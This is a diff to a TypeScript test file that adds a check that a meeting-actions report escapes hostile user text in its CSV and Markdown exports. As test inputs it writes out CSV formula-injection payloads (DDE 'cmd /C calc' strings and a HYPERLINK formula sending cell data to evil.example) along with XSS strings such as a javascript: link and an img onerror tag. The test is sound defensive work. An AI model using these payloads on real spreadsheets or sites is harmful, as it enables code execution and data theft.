@@ -116,6 +116,45 @@ t.test('Markdown: a heading per meeting and a table per section', async (t) => {
   t.equal(soon[2]!.split(/(?<!\\)\|/).length, soon[0]!.split('|').length, 'same number of cells as the header');
 });
 
+t.test('hostile text is inert: no formula reaches a spreadsheet, no markup reaches Markdown', async (t) => {
+  const api = await build(t);
+  const committeeId = await committee(api, { name: '=cmd|\' /C calc\'!A0 # [x](http://evil)' });
+  const a = await meeting(api, committeeId, { startsAt: A, status: 'held' });
+  await meeting(api, committeeId, { startsAt: B });
+  // OWASP's formula openers: = + - @, and a tab or carriage return before one.
+  const hostile = [
+    { title: '=HYPERLINK("http://evil.example/?"&A1,"Click for the figures")', ownerText: '+cmd|\' /C calc\'!A0' },
+    { title: '-2+3+cmd|\' /C notepad\'!A1', ownerText: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
+    { title: '\t=1+1', ownerText: '\r=1+1' },
+    { title: '**Bold** _em_ `code` [link](javascript:alert(1)) <img src=x onerror=alert(1)> ~~gone~~ !{x} # \\ | end', ownerText: '- [ ] list + item' },
+  ];
+  for (const body of hostile) {
+    const res = await api.request({ method: 'POST', url: '/v1/actions', payload: { meetingId: a, kind: 'update', dueDate: '2024-08-01', ...body } });
+    t.equal(res.statusCode, 201, res.body);
+  }
+
+  const [header, ...rows] = parseCsv((await get(api, '&format=csv')).body);
+  const column = (name: string) => rows.map((r) => r[header!.indexOf(name)]!);
+  t.same(column('title').sort(), hostile.map((h) => (/^[=+\-@\t\r]/.test(h.title) ? `'${h.title}` : h.title)).sort(), 'formula titles start with a quote, the rest as written');
+  t.same(column('owner').sort(), hostile.map((h) => (/^[=+\-@\t\r]/.test(h.ownerText) ? `'${h.ownerText}` : h.ownerText)).sort());
+  t.ok(column('committee').every((c) => c.startsWith("'=cmd")), 'committee name too');
+  for (const cell of rows.flat()) t.notMatch(cell, /^[=+\-@\t\r]/, `no cell opens a formula: ${JSON.stringify(cell)}`);
+
+  const md = (await get(api, '&format=md')).body;
+  const active = /[\\`*_{}[\]<>#+\-!|~]/;
+  const userText = [...hostile.flatMap((h) => [h.title, h.ownerText]), '=cmd|\' /C calc\'!A0 # [x](http://evil)'];
+  for (const text of userText) {
+    // Each active character behind a backslash, line breaks as spaces.
+    const escaped = [...text.replace(/\r\n?|\n/g, ' ')].map((c) => (active.test(c) ? `\\${c}` : c)).join('');
+    t.ok(md.includes(escaped), `escaped in Markdown: ${JSON.stringify(text)}`);
+  }
+  t.notMatch(md, /(?<!\\)<img/, 'no live HTML tag');
+  t.notMatch(md, /(?<!\\)\]\(javascript:/, 'no live link');
+  t.notMatch(md, /(?<!\\)\*\*Bold/, 'no emphasis');
+  const row = md.split('\n').find((l) => l.includes('Bold'))!;
+  t.equal(row.split(/(?<!\\)\|/).length, '| # | Action | Owner | Due | Days overdue | Times flagged | Status |'.split('|').length, 'the row keeps its columns');
+});
+
 t.test('HTML: a full, printable document with every title escaped', async (t) => {
   const api = await build(t);
   const s = await seed(api);
@@ -192,7 +231,8 @@ t.test('CSV, Markdown and HTML are byte for byte what the whole-report renderers
   // overdue-report.json is the admin's report over the report-stream test's data (quotes, markup,
   // pipes, control characters, non-BMP and lone surrogates included); the .csv, .md and .html
   // beside it were written from it by render() as it stood before the per-committee writers
-  // (commit 14e4f56). A change to any writer shows here, whichever thread runs it.
+  // (commit 14e4f56), the Markdown since with its active characters escaped (issue 19). A change
+  // to any writer shows here, whichever thread runs it.
   const dir = join(import.meta.dirname, '..', 'fixtures', 'reports');
   const report = JSON.parse(readFileSync(join(dir, 'overdue-report.json'), 'utf8')) as OverdueReport;
   for (const format of ['csv', 'md', 'html'] as const) {
